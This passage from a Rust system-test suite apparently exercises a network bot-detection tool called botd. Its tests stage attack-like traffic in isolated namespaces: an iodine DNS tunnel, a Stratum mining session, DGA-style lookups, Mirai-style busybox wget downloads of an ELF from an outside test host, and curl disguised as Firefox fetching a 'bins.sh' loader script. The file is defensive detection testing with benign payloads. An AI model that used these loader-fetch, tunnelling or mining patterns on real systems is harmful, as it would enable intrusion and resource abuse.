    assert!(ack.contains(NAME), "{ack}");
    let leased = ack
        .split_whitespace()
        .find(|w| w.starts_with("10.77.0."))
        .unwrap_or_else(|| panic!("no address in {ack}"))
        .to_string();
    // The leased host then mines (it is red, so its alert names the device).
    stratum_miner(&lan, "198.18.0.30:3333", "1BotdKitchenCamWallet.cam");
    pool.join().unwrap();
    let pcap = cap.stop();

    let flows = botd_flows(&pcap);
    let dhcp = app(&flows, "dhcp");
    let named = dhcp
        .iter()
        .map(|f| &f["App"])
        .find(|a| a["hostname"] == NAME)
        .unwrap_or_else(|| panic!("no DHCP flow with hostname {NAME}:\n{}", dump(&flows)));
    assert_eq!(s(named, "client_mac"), MAC, "{named}");
    let acked = dhcp
        .iter()
        .map(|f| &f["App"])
        .find(|a| a["msg_type"] == 5)
        .unwrap_or_else(|| panic!("no DHCP ACK:\n{}", dump(&flows)));
    assert_eq!(s(acked, "client_mac"), MAC, "{acked}");
    assert_eq!(s(acked, "your_ip"), leased, "{acked}");
    assert_eq!(s(acked, "server_id"), ROUTER, "{acked}");
    assert_eq!(s(acked, "router"), ROUTER, "{acked}");
    assert_eq!(s(acked, "dns_server"), ROUTER, "{acked}");

    let analysis = botd_analyze(&pcap, &dir);
    let cam = host(&analysis, &leased);
    assert!(
        !fired(&rules(cam), "miner").is_empty(),
        "the leased host's mining: {cam:#}"
    );
    // The device behind the address: the alert that made the host red names it.
    let alert = cam["evidence"]
        .as_array()
        .and_then(|e| e.iter().find(|a| a["level"] == "red"))
        .unwrap_or_else(|| panic!("no red alert: {cam:#}"));
    let device = &alert["device"];
    assert_eq!(s(device, "mac"), MAC, "{alert:#}");
    assert_eq!(s(device, "hostname"), NAME, "{alert:#}");
    assert!(
        device["addresses"]
            .as_array()
            .is_some_and(|a| a.first() == Some(&Value::from(leased.as_str()))),
        "{alert:#}"
    );
    // ... and so does the host itself.
    let device = &cam["device"];
    assert_eq!(
        s(device, "mac"),
        MAC,
        "`botd analyze --json` has no `device` on the host ({}): {cam:#}",
        leased
    );
    assert_eq!(s(device, "hostname"), NAME, "{cam:#}");
    assert!(s(device, "vendor_class").starts_with("udhcp "), "{cam:#}");
    // The router: it leased the address, named itself the gateway and the DNS server.
    let router = host(&analysis, ROUTER);
    let roles: Vec<&str> = router["device"]["roles"]
        .as_array()
        .map(|r| r.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    for role in ["gateway", "dhcp-server", "dns-server"] {
        assert!(roles.contains(&role), "{role}: {router:#}");
    }
}

fn make_executable(path: &std::path::Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

// ------------------------------------------------------------------------------------------
// DNS tunnel.

#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn iodine_through_dnsmasq_is_a_dns_tunnel() {
    require(&[
        tool("dnsmasq", "dnsmasq-base"),
        tool("iodine", "iodine"),
        tool("iodined", "iodine"),
        Tool {
            check: "test -c /dev/net/tun".into(),
            package: "(none: the kernel's tun device, /dev/net/tun)",
        },
    ]);
    let dir = TempDir::new("np-iodine");
    let lan = Lan::new("np-iodine", "02:77:00:00:06:02");
    lan.client_addrs(&["10.77.0.2"]);
    lan.outside(&["198.18.0.53"]);
    // The home router forwards t.example to its authoritative server, iodined.
    let _dns = dnsmasq(&lan, &dir, &["--server=/t.example/198.18.0.53"]);
    let mut cmd = lan.router.exec("iodined");
    cmd.args([
        "-f",
        "-c",
        "-P",
        "botd-test",
        "-l",
        "198.18.0.53",
        "10.99.0.1",
        "t.example",
    ]);
    let mut iodined = Daemon::spawn("iodined", cmd, dir.join("iodined.log"));
    iodined.wait_log("Listening to dns for domain t.example", 10);
    // A listener at the server's end of the tunnel, counting what arrives.
    let (ready, listening) = mpsc::channel();
    let sink = lan.router.thread(move || {
        let l = TcpListener::bind("10.99.0.1:7000").unwrap();
        l.set_nonblocking(true).unwrap();
        ready.send(()).unwrap();
        let deadline = Instant::now() + Duration::from_secs(25);
        let mut c = loop {
            match l.accept() {
                Ok((c, _)) => break c,
                Err(_) if Instant::now() < deadline => {
                    std::thread::sleep(Duration::from_millis(20))
                }
                Err(e) => panic!("nothing came through the tunnel: {e}"),
            }
        };
        c.set_nonblocking(false).unwrap();
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut got = Vec::new();
        c.read_to_end(&mut got).unwrap();
        c.write_all(format!("{}\n", got.len()).as_bytes()).ok();
        got.len()
    });
    listening.recv_timeout(Duration::from_secs(10)).unwrap();

    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    // -r: no raw UDP to the server even though it is reachable, all of it through DNS.
    let mut cmd = lan.client.exec("iodine");
    cmd.args(["-f", "-r", "-P", "botd-test", ROUTER, "t.example"]);
    let mut iodine = Daemon::spawn("iodine", cmd, dir.join("iodine.log"));
    iodine.wait_log("Connection setup complete", 20);
    const SENT: usize = 6000;
    lan.client
        .thread(|| {
            let mut c = TcpStream::connect_timeout(
                &"10.99.0.1:7000".parse().unwrap(),
                Duration::from_secs(10),
            )
            .unwrap_or_else(|e| panic!("connect through the tunnel: {e}"));
            c.set_write_timeout(Some(Duration::from_secs(10))).unwrap();
            // Incompressible (iodine compresses what it carries): a xorshift stream.
            let mut x = 0x2545_f491_4f6c_dd1du64;
            let data: Vec<u8> = (0..SENT)
                .map(|_| {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    x as u8
                })
                .collect();
            c.write_all(&data).unwrap();
        })
        .join()
        .unwrap();
    assert_eq!(sink.join().unwrap(), SENT, "{}", iodine.log_text());
    iodine.stop(libc::SIGTERM, 3);
    let pcap = cap.stop();

    let flows = botd_flows(&pcap);
    let tunnel: Vec<&Value> = app(&flows, "dns")
        .into_iter()
        .filter(|f| from_to(f, "10.77.0.2", ROUTER, "53"))
        .map(|f| &f["App"])
        .filter(|a| s(a, "qname").ends_with(".t.example"))
        .collect();
    // iodine's NULL queries, answered through dnsmasq, many with long data-carrying names.
    let null = tunnel.iter().filter(|a| a["qtype"] == 10).count();
    assert!(null >= 20, "{null} NULL queries:\n{}", dump(&flows));
    assert!(
        tunnel
            .iter()
            .filter(|a| a["qtype"] == 10 && a["rcode"] == 0 && a["answer_count"] == 1)
            .count()
            >= 20,
        "answered NULL queries:\n{}",
        dump(&flows)
    );
    assert!(
        tunnel
            .iter()
            .filter(|a| a["qname_len"].as_u64() > Some(60))
            .count()
            >= 10,
        "long names:\n{}",
        dump(&flows)
    );

    let analysis = botd_analyze(&pcap, &dir);
    let client = host(&analysis, "10.77.0.2");
    assert!(
        fired(&rules(client), "dns-tunnel")
            .iter()
            .any(|t| t.contains("under t.example")),
        "no dns-tunnel rule: {client:#}"
    );
    assert_eq!(client["level"], "red", "{client:#}");
}

// ------------------------------------------------------------------------------------------
// Mining.

#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn stratum_dialogue_is_a_miner() {
    require(&[]);
    let dir = TempDir::new("np-miner");
    let lan = Lan::new("np-miner", "02:77:00:00:07:02");
    lan.client_addrs(&["10.77.0.2"]);
    lan.outside(&["198.18.0.30"]);
    let pool = stratum_pool(&lan, "198.18.0.30:3333");
    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    const WORKER: &str = "1BotdTestWalletQz8x.rig7";
    let got = stratum_miner(&lan, "198.18.0.30:3333", WORKER);
    assert!(got.iter().any(|l| l.contains("mining.notify")), "{got:?}");
    let seen = pool.join().unwrap();
    assert_eq!(seen.len(), 3, "{seen:?}");
    let pcap = cap.stop();

    let flows = botd_flows(&pcap);
    let mining = app(&flows, "mining");
    let m = &mining
        .iter()
        .find(|f| from_to(f, "10.77.0.2", "198.18.0.30", "3333"))
        .unwrap_or_else(|| panic!("no mining flow:\n{}", dump(&flows)))["App"];
    assert_eq!(s(m, "method"), "mining.subscribe", "{m}");
    assert_eq!(s(m, "agent"), "cpuminer-multi/1.3.7", "{m}");
    assert_eq!(s(m, "user"), WORKER, "{m}");
    assert!(m["messages"].as_u64() >= Some(4), "{m}");

    let analysis = botd_analyze(&pcap, &dir);
    let miner = host(&analysis, "10.77.0.2");
    assert!(
        fired(&rules(miner), "miner")
            .iter()
            .any(|t| t.contains("198.18.0.30 port 3333") && t.contains(WORKER)),
        "no miner rule: {miner:#}"
    );
    assert_eq!(miner["level"], "red", "{miner:#}");
}

// ------------------------------------------------------------------------------------------
// DGA.

/// Names as a domain-generation algorithm makes them: 10 to 15 letters and digits from a
/// seeded generator (an LCG, as many DGAs use), under a few TLDs.
fn dga_names(seed: u32, n: usize) -> Vec<String> {
    let mut x = seed;
    let mut next = || {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12_345);
        x >> 16
    };
    let alphabet = b"abcdefghijklmnopqrstuvwxyz0123456789";
    (0..n)
        .map(|_| {
            let len = 10 + (next() % 6) as usize;
            let label: String = (0..len)
                .map(|_| alphabet[(next() as usize) % alphabet.len()] as char)
                .collect();
            let tld = ["com", "net", "org"][(next() % 3) as usize];
            format!("{label}.{tld}")
        })
        .collect()
}

#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn random_names_that_do_not_exist_are_a_dga() {
    require(&[tool("dnsmasq", "dnsmasq-base"), tool("busybox", "busybox")]);
    let dir = TempDir::new("np-dga");
    let lan = Lan::new("np-dga", "02:77:00:00:07:02");
    lan.client_addrs(&["10.77.0.2"]);
    // dnsmasq answers NXDOMAIN for every name under these TLDs (no upstream: a closed network).
    let _dns = dnsmasq(
        &lan,
        &dir,
        &["--address=/com/", "--address=/net/", "--address=/org/"],
    );
    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    let names = dga_names(0x00c0_ffee, 24);
    for name in &names {
        let out = lan
            .client
            .run(10, "busybox", &["nslookup", "-type=a", name, ROUTER]);
        let text = String::from_utf8_lossy(&out.stdout).to_string()
            + &String::from_utf8_lossy(&out.stderr);
        assert!(text.contains("NXDOMAIN"), "nslookup {name}: {text}");
    }
    let pcap = cap.stop();
    let flows = botd_flows(&pcap);
    let failed = app(&flows, "dns")
        .iter()
        .filter(|f| f["App"]["rcode"] == 3 && f["App"]["qtype"] == 1)
        .count();
    assert!(
        failed >= names.len(),
        "{failed} NXDOMAIN answers:\n{}",
        dump(&flows)
    );
    let analysis = botd_analyze(&pcap, &dir);
    let bot = host(&analysis, "10.77.0.2");
    let r = rules(bot);
    assert!(
        fired(&r, "dga")
            .iter()
            .any(|t| t.contains("random-looking names failed (NXDOMAIN)")),
        "no dga rule: {bot:#}"
    );
    assert_eq!(bot["level"], "red", "{bot:#}");
    // The window's DNS figures count what happened.
    let w = &bot["windows"][0]["protocols"];
    assert!(
        w["dns_failed"].as_u64().unwrap() >= names.len() as u64,
        "{w}"
    );
    assert!(w["dns_random_failed_names"].as_u64().unwrap() >= 16, "{w}");
}

// ------------------------------------------------------------------------------------------
// Executable downloads.

/// An IoT loader's fetch, as Mirai's and Hide'N Seek's droppers do it: busybox wget of an ELF
/// program from an outside server named by address (the `exe-download` rule, strong: red). The
/// same file fetched by name from a server the host resolved is only a weak finding.
#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn busybox_wget_of_an_elf_by_address_is_an_exe_download() {
    require(&[tool("dnsmasq", "dnsmasq-base"), tool("busybox", "busybox")]);
    let dir = TempDir::new("np-exe");
    let lan = Lan::new("np-exe", "02:77:00:00:01:09");
    lan.client_addrs(&["10.77.0.2", "10.77.0.3"]);
    lan.outside(&["198.18.0.30"]);
    lan.client.set_resolver(ROUTER);
    let _dns = dnsmasq(&lan, &dir, &["--address=/updates.example.test/198.18.0.30"]);
    let www = dir.join("www");
    std::fs::create_dir_all(www.join("bins")).unwrap();
    // A real ELF program: busybox itself, as the loaders fetch their architecture's build.
    let busybox = which("busybox");
    std::fs::copy(&busybox, www.join("bins/arm7")).unwrap();
    let mut httpd_cmd = lan.router.exec("busybox");
    httpd_cmd
        .args(["httpd", "-f", "-p", "198.18.0.30:80", "-h"])
        .arg(&www);
    let _httpd = Daemon::spawn("busybox httpd", httpd_cmd, dir.join("httpd.log"));
    lan.router.wait_tcp("198.18.0.30:80", 10);

    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    let by_address = dir.join("by-address");
    let by_name = dir.join("by-name");
    for (from, url, out) in [
        ("10.77.0.2", "http://198.18.0.30/bins/arm7", &by_address),
        (
            "10.77.0.3",
            "http://updates.example.test/bins/arm7",
            &by_name,
        ),
    ] {
        // busybox wget has no source-address option: the route's source picks the address.
        let out_str = out.to_str().unwrap();
        lan.client.run_ok(
            20,
            "sh",
            &[
                "-c",
                &format!(
                    "ip route replace 198.18.0.30/32 via {ROUTER} dev {CLIENT_IF} src {from} && \
                     busybox wget -q -O {out_str} {url}"
                ),
            ],
        );
        assert_eq!(
            std::fs::read(out).unwrap().get(..4),
            Some(&b"\x7fELF"[..]),
            "{url}"
        );
    }
    let pcap = cap.stop();

    let flows = botd_flows(&pcap);
    let http = app(&flows, "http");
    let fetch = http
        .iter()
        .find(|f| from_to(f, "10.77.0.2", "198.18.0.30", "80"))
        .unwrap_or_else(|| panic!("no HTTP flow by address:\n{}", dump(&flows)));
    assert_eq!(fetch["App"]["executable"], "elf", "{}", fetch["App"]);

    let analysis = botd_analyze(&pcap, &dir);
    let loader = host(&analysis, "10.77.0.2");
    let red = rules(loader);
    assert!(
        fired(&red, "exe-download")
            .iter()
            .any(|r| r
                .contains("by address from 198.18.0.30 port 80 (ELF: GET 198.18.0.30/bins/arm7)")),
        "{loader:#}"
    );
    let updater = host(&analysis, "10.77.0.3");
    assert!(
        fired(&rules(updater), "exe-download").is_empty(),
        "{updater:#}"
    );
    assert!(
        !fired(&weak(updater), "exe-download").is_empty(),
        "{updater:#}"
    );
}

/// A real browser and a program dressed as one, over plain HTTP to an outside server: Chromium
/// (headless, the full browser) sends Accept-Language with the page and every sub-resource, so
/// `fake-browser` stays silent for it; curl with Firefox's User-Agent fetching a shell script by
/// address (an IoT loader's `bins.sh`) is a fake browser, and the script is a program
/// downloaded by address (`exe-download`, strong).
#[test]
#[ignore = "system: root, network namespaces, tcpdump and the servers and clients tests/run.sh installs"]
fn chromium_is_a_browser_and_curl_dressed_as_firefox_is_not() {
    require(&[
        tool("busybox", "busybox"),
        tool("curl", "curl"),
        tool("chromium", "chromium"),
    ]);
    let dir = TempDir::new("np-browser");
    let lan = Lan::new("np-browser", "02:77:00:00:01:0a");
    lan.client_addrs(&["10.77.0.2", "10.77.0.3"]);
    lan.outside(&["198.18.0.31"]);
    let www = dir.join("www");
    std::fs::create_dir_all(&www).unwrap();
    std::fs::write(
        www.join("index.html"),
        "<html><body><img src=\"/logo.png\"><script src=\"/app.js\"></script></body></html>",
    )
    .unwrap();
    std::fs::write(www.join("logo.png"), b"\x89PNG\r\n\x1a\n").unwrap();
    std::fs::write(www.join("app.js"), "document.title = 'ok';").unwrap();
    std::fs::write(www.join("bins.sh"), "#!/bin/sh\ncd /tmp && echo fetched\n").unwrap();
    let mut httpd_cmd = lan.router.exec("busybox");
    httpd_cmd
        .args(["httpd", "-f", "-p", "198.18.0.31:80", "-h"])
        .arg(&www);
    let _httpd = Daemon::spawn("busybox httpd", httpd_cmd, dir.join("httpd.log"));
    lan.router.wait_tcp("198.18.0.31:80", 10);

    let cap = Capture::start(&lan.client, CLIENT_IF, &dir);
    // Chromium from 10.77.0.2 (the route's source), curl from 10.77.0.3.
    lan.client.ip(&[
        "route",
        "replace",
        "198.18.0.31/32",
        "via",
        ROUTER,
        "dev",
        CLIENT_IF,
        "src",
        "10.77.0.2",
    ]);
    let profile = dir.join("chromium-profile");
    let dom = lan.client.run_ok(
        60,
        "chromium",
        &[
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            &format!("--user-data-dir={}", profile.display()),
            "--dump-dom",
            "http://198.18.0.31/",
        ],
    );
    assert!(
        dom.contains("<title>ok</title>"),
        "the page's script ran: {dom}"
    );
    let script = lan.client.run_ok(
        20,
        "curl",
        &[
            "-sS",
            "--interface",
            "10.77.0.3",
            "-A",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:99.0) Gecko/20100101 Firefox/99.0",
            "http://198.18.0.31/bins.sh",
        ],
    );
    assert!(script.starts_with("#!/bin/sh"), "{script}");
    let pcap = cap.stop();

    let flows = botd_flows(&pcap);
    let browsed = app(&flows, "http")
        .into_iter()
        .filter(|f| from_to(f, "10.77.0.2", "198.18.0.31", "80"))
        .count();
    assert!(
        browsed >= 1,
        "no HTTP flow from Chromium:\n{}",
        dump(&flows)
    );

    let analysis = botd_analyze(&pcap, &dir);
    let browser = host(&analysis, "10.77.0.2");
    assert!(
        fired(&weak(browser), "fake-browser").is_empty()
            && fired(&rules(browser), "fake-browser").is_empty(),
        "{browser:#}"
    );
    let loader = host(&analysis, "10.77.0.3");
    let (red, weak_only) = (rules(loader), weak(loader));
    assert!(
        fired(&red, "exe-download")
            .iter()
            .any(|r| r
                .contains("by address from 198.18.0.31 port 80 (script: GET 198.18.0.31/bins.sh)")),
        "{loader:#}"
    );
    assert!(
        fired(&red, "fake-browser")
            .iter()
            .chain(fired(&weak_only, "fake-browser").iter())
            .any(|r| r.contains("(\"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:99.0) Gecko/")),
        "{loader:#}"
    );
}

fn which(program: &str) -> std::path::PathBuf {
    std::env::var_os("PATH")
        .into_iter()
        .flat_map(|p| std::env::split_paths(&p).collect::<Vec<_>>())
        .map(|d| d.join(program))
        .find(|p| p.is_file())
        .unwrap_or_else(|| panic!("{program} not on PATH"))
}
